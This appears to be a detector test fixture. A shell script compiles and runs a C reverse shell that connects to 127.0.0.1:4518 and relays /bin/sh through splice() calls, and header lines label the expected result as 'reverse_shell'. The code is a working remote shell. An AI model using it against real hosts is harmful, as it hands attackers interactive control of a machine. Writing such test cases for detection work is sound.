# about: the relay moves bytes with splice only
# expect: reverse_shell medium
# needs: python3 gcc
proven 4518
cat >a.c <<'C'
#define _GNU_SOURCE
#include <netinet/in.h>
#include <fcntl.h>
#include <unistd.h>
int main(){int in[2],out[2];pipe(in);pipe(out);
 if(!fork()){dup2(in[0],0);dup2(out[1],1);dup2(out[1],2);close(in[1]);close(out[0]);execl("/bin/sh","sh",NULL);}
 close(in[0]);close(out[1]);int s=socket(AF_INET,SOCK_STREAM,0);struct sockaddr_in a={AF_INET,htons(4518)};a.sin_addr.s_addr=htonl(0x7f000001);
 if(connect(s,(void*)&a,sizeof a))return 1;
 if(!fork()){while(splice(out[0],0,s,0,65536,SPLICE_F_MOVE)>0);_exit(0);}
 while(splice(s,0,in[1],0,65536,SPLICE_F_MOVE)>0);}
C
gcc -w -o a a.c
timeout 6 ./a || true
answered
